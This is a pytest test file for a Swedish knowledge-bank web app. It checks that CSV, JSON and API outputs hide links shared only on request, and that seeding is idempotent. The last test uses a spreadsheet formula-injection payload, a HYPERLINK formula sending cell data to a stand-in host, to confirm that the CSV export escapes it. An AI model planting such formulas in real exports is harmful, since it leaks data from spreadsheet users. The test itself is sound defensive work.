"""The exports, the API and the seed: metadata only, never a link shared on request; a second seed changes nothing."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.core.management import call_command
from zeal import zeal_ignore

from krokarm.audit.models import AuditEntry
from krokarm.knowledge.models import Item, Reuse
from krokarm.knowledge.tests.factories import SECRET_LINK, editor, make_item, secret_item, url

pytestmark = pytest.mark.django_db


def test_the_csv_export_parses_and_hides_links_shared_on_request(client: Any) -> None:
    open_item, hidden = make_item(title="Öppen rapport"), secret_item()
    response = client.get(url("export-csv"))
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff") and "attachment" in response["Content-Disposition"]
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    assert rows[open_item.pk]["link"] == open_item.link and rows[open_item.pk]["title"] == "Öppen rapport"
    assert rows[hidden.pk]["link"] == "" and rows[hidden.pk]["access"] == "pa-begaran"
    assert SECRET_LINK not in body


def test_the_json_export_parses_and_hides_links_shared_on_request(client: Any) -> None:
    hidden = secret_item()
    document = json.loads(client.get(url("export-json")).content)
    row = next(r for r in document["items"] if r["id"] == hidden.pk)
    assert row["link"] == "" and row["owner"] == "arbetsformedlingen"
    assert len(document["items"]) == Item.objects.count()


def test_the_api_lists_and_filters_without_leaking(client: Any) -> None:
    hidden = secret_item()
    body = client.get("/api/v1/knowledge?owner=arbetsformedlingen&limit=200").json()
    found = next(r for r in body["items"] if r["id"] == hidden.pk)
    assert found["link"] is None and found["access"] == "pa-begaran"
    assert SECRET_LINK not in json.dumps(body)
    assert all(r["owner"]["slug"] == "arbetsformedlingen" for r in body["items"])
    detail = client.get(f"/api/v1/knowledge/{hidden.pk}").json()
    assert detail["link"] is None and SECRET_LINK not in json.dumps(detail)


def test_the_api_reports_unknown_filters_and_items(client: Any) -> None:
    response = client.get("/api/v1/knowledge?region=mars")
    assert response.status_code == 400 and response.json()["error"]["code"] == "unknown_region"
    assert client.get("/api/v1/knowledge/999999").status_code == 404


def test_the_seed_loads_real_items_and_a_second_run_changes_nothing() -> None:
    seeded = Item.objects.exclude(source_url="")
    assert seeded.filter(slug="scb-trender-och-prognoser", owner__slug="scb").exists()
    assert seeded.count() >= 15 and all(item.link for item in seeded)
    assert Reuse.objects.filter(item__slug="scb-trender-och-prognoser", actor__slug="region-stockholm").exists()
    audited = AuditEntry.objects.filter(target_type__startswith="knowledge.")
    before = audited.count()
    out = io.StringIO()
    with zeal_ignore():  # the whole seed reads each strategy's and challenge's rows in turn, by design
        call_command("seed", verbosity=0, stdout=out)
    assert "Knowledge bank: 0 created, 0 updated, 0 deleted\n" in out.getvalue()
    assert audited.count() == before


def test_an_unknown_challenge_stops_the_seed_with_a_clear_error(tmp_path: Any) -> None:
    from krokarm.actors.reference_data import ReferenceDataError
    from krokarm.knowledge import reference_data

    (tmp_path / "x.yaml").write_text(
        "items:\n  - slug: x\n    kind: metod\n    title: X\n    owner: scb\n    summary: S\n"
        "    challenges: [finns-inte]\n    link: https://scb.se\n    access: oppen\n    source: https://scb.se\n",
        encoding="utf-8",
    )
    known = reference_data.Known(
        actors=frozenset({"scb"}), regions=frozenset(), themes=frozenset(), challenges=frozenset({"annan"})
    )
    with pytest.raises(ReferenceDataError, match=r"unknown challenge.*finns-inte"):
        reference_data.load(tmp_path, known)


def test_a_title_an_editor_wrote_like_a_formula_comes_out_of_the_csv_as_text(client: Any) -> None:
    item = make_item(user=editor(), title='=HYPERLINK("https://elak.example/?"&A2;"Klicka")')
    body = client.get(url("export-csv")).content.decode("utf-8").lstrip("\ufeff")
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(body))}
    assert rows[item.pk]["title"] == '\'=HYPERLINK("https://elak.example/?"&A2;"Klicka")'
